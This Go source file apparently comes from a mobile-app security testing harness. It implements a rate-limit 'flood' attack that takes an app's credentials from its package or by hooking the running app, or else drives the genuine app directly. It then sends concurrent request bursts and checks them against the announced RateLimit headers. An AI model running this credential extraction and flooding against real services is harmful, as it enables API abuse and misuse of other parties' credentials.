package attacker

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"regexp"
	"strconv"
	"sync"
	"time"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/stages/catalog"
	"keyladder/stages/protect"
)

const (
	floodTime    = 2 * time.Second
	floodCalls   = 1200 // at most
	floodWorkers = 16

	// The app waits when it is told to, and tries again before it shows that it was: so there are more at
	// once, and for longer.
	tapTime    = 2 * floodTime
	taps       = 64
	floodSlack = 3 // calls: the server's clock is not ours
)

var floodedCall = protect.Call{Path: "/v1/rates", Public: true}

// flood sends many calls at once, with the app's own credentials, and counts how many
// are served. How many should be is what the API announces in its RateLimit fields:
// what is left of the quota at the first call, and what comes back while the flood
// lasts.
//
// Where the credentials are good with a key alone that nobody gets out of a phone, it is the app that has to
// send the calls, as fast as its user taps.
//
//keyladder:code attack-flood
func flood(ctx context.Context, g *attack.Given) (attack.Result, error) {
	if g.Stage.Call.Binding == catalog.TokenOfKey {
		return floodThroughApp(ctx, g)
	}
	tries, err := credentials(ctx, g)
	if err != nil {
		return attack.Stopped(err)
	}
	var (
		p     *attack.Program
		first protect.Answer
		begin time.Time
	)
	err = errors.New("there are no credentials in the app to call with")
	for _, as := range tries {
		if p, err = attack.NewProgram(g, as); err != nil {
			return attack.Result{}, err
		}
		defer p.Close()
		if err = p.Register(ctx); err != nil {
			continue
		}
		begin = time.Now()
		if first, err = p.Call(ctx, floodedCall); err == nil {
			break
		}
	}
	if err != nil {
		return attack.Stopped(err)
	}
	return exceed(ctx, g, announced(first.Header), begin, 1, hurry{floodWorkers, floodTime, func(ctx context.Context) (int, error) {
		dressed, err := p.Caller.Dress(floodedCall)
		if err != nil {
			return 0, err
		}
		got, _, err := p.Send(ctx, dressed)
		if err != nil {
			return 0, err
		}
		return got.StatusCode, nil
	}})
}

// floodThroughApp has the genuine app on the attacker's own phone make the calls. The API tells
// everybody what the limit is, also where it serves them nothing.
func floodThroughApp(ctx context.Context, g *attack.Given) (attack.Result, error) {
	phone, err := g.Open(ctx, g.Package, nil)
	if err != nil {
		return attack.Result{}, err
	}
	defer phone.Close()
	if _, err := attack.Shown(phone.App.Rates(ctx)); err != nil {
		return attack.Stopped(err)
	}
	p, err := attack.NewProgram(g, protect.Identity{})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	dressed, err := p.Caller.Dress(floodedCall)
	if err != nil {
		return attack.Result{}, err
	}
	begin := time.Now()
	first, _, err := p.Send(ctx, dressed)
	if err != nil {
		return attack.Result{}, err
	}
	g.Say("A program of our own has no use for what the app is given. Have the genuine app on our own phone make the calls, %d at once.", taps)
	return exceed(ctx, g, announced(first.Header), begin, 0, hurry{taps, tapTime, func(ctx context.Context) (int, error) {
		screen, err := phone.App.Rates(ctx)
		if err == nil && screen.Status == 0 {
			err = errors.New("the app does not work: " + screen.Error)
		}
		return screen.Status, err
	}})
}

// hurry is how many calls are made: so many at once, for so long.
type hurry struct {
	workers int
	time    time.Duration
	call    func(context.Context) (status int, err error)
}

// exceed makes calls in a hurry until there are more than the limits let through since they were announced,
// or the time is over. Some were served meanwhile.
func exceed(ctx context.Context, g *attack.Given, limits []limit, begin time.Time, before int, how hurry) (attack.Result, error) {
	count := floodCalls
	for _, limit := range limits {
		g.Say("The API announces: %d calls in %d s by %s, of which %d are left.", limit.quota, limit.window, limit.name, limit.left)
		count = min(count, 2*limit.allowed(how.time)+50)
	}
	served, limited, err := burst(ctx, count, how)
	if err != nil {
		return attack.Result{}, err
	}
	served += before
	elapsed := time.Since(begin)
	result := attack.Result{Served: served}
	for i, limit := range limits {
		if allowed := limit.allowed(elapsed); i == 0 || allowed < result.Allowed {
			result.Allowed = allowed
		}
	}
	g.Say("Sent %d calls within %d ms: %d were served, %d were told to wait. As announced, up to %d may be.",
		served+limited, elapsed.Milliseconds(), served, limited, result.Allowed)
	switch {
	case served > result.Allowed:
		result.Claim = true
	case limited > 0:
		result.Obstacle = fmt.Sprintf("the API answers 429 to %d of %d calls", limited, served+limited)
	default:
		return attack.Result{}, errors.New("we are too slow to exceed the limit")
	}
	return result, nil
}

// credentials are the app's own, from the package; where that hides them, or the app is given them
// while it runs, from its memory.
func credentials(ctx context.Context, g *attack.Given) ([]protect.Identity, error) {
	given := g.Stage.Call.AppProof == catalog.IntegrityToken
	if !given {
		found, err := g.SearchPackage()
		if err != nil {
			return nil, err
		}
		if tries, err := g.Identities(found.OfApp()...); err != nil || len(tries) > 0 {
			return tries, err
		}
	}
	phone, found, err := g.Hook(ctx)
	if err != nil {
		return nil, err
	}
	defer phone.Close()
	finders := found.OfApp()
	if given {
		finders = append(finders, &found.Integrity)
	}
	return g.Identities(finders...)
}

// burst sends up to count calls over several connections and counts those that were
// served and those that were refused as too many.
func burst(ctx context.Context, count int, how hurry) (served, limited int, err error) {
	ctx, cancel := context.WithTimeout(ctx, how.time)
	defer cancel()
	var (
		mu      sync.Mutex
		working sync.WaitGroup
		left    = count
	)
	take := func() bool {
		mu.Lock()
		defer mu.Unlock()
		left--
		return left >= 0 && err == nil
	}
	for range how.workers {
		working.Go(func() {
			for take() {
				status, callErr := how.call(ctx)
				mu.Lock()
				switch {
				case ctx.Err() != nil: // the time is over
				case callErr != nil:
					err = callErr
				case status == http.StatusOK:
					served++
				case status == http.StatusTooManyRequests:
					limited++
				default:
					err = fmt.Errorf("the API answered %d in the middle of the flood", status)
				}
				mu.Unlock()
				if ctx.Err() != nil {
					return
				}
			}
		})
	}
	working.Wait()
	return served, limited, err
}

// limit is a rate limit as the API announces it (RateLimit and RateLimit-Policy,
// draft-ietf-httpapi-ratelimit-headers).
type limit struct {
	name   string
	quota  int // calls in a window
	window int // seconds
	left   int // at the call that announced it
}

// allowed is how many calls a limit lets through at most, from the call that announced
// it on. Windows are announced in whole seconds, rounded up.
func (l limit) allowed(elapsed time.Duration) int {
	refill := elapsed.Seconds() * float64(l.quota) / max(float64(l.window)-1, 0.25)
	return 1 + l.left + int(refill) + floodSlack
}

var (
	// An item of a list of strings with parameters (RFC 9651): "address";q=20;w=2
	limitItem      = regexp.MustCompile(`"([^"]*)"((?:\s*;\s*[a-z]+=(?:[0-9]+|"[^"]*"|:[^:]*:))*)`)
	limitParameter = regexp.MustCompile(`;\s*([qwr])=([0-9]+)`)
)

// announced are the limits that a response announces in both fields.
func announced(header http.Header) []limit {
	left := map[string]int{}
	eachLimit(header.Values("RateLimit"), func(name string, parameters map[string]int) {
		left[name] = parameters["r"]
	})
	var limits []limit
	eachLimit(header.Values("RateLimit-Policy"), func(name string, parameters map[string]int) {
		if remaining, ok := left[name]; ok {
			limits = append(limits, limit{name, parameters["q"], parameters["w"], remaining})
		}
	})
	return limits
}

func eachLimit(fields []string, visit func(name string, parameters map[string]int)) {
	for _, field := range fields {
		for _, item := range limitItem.FindAllStringSubmatch(field, -1) {
			parameters := map[string]int{}
			for _, match := range limitParameter.FindAllStringSubmatch(item[2], -1) {
				if number, err := strconv.Atoi(match[2]); err == nil {
					parameters[match[1]] = number
				}
			}
			visit(item[1], parameters)
		}
	}
}
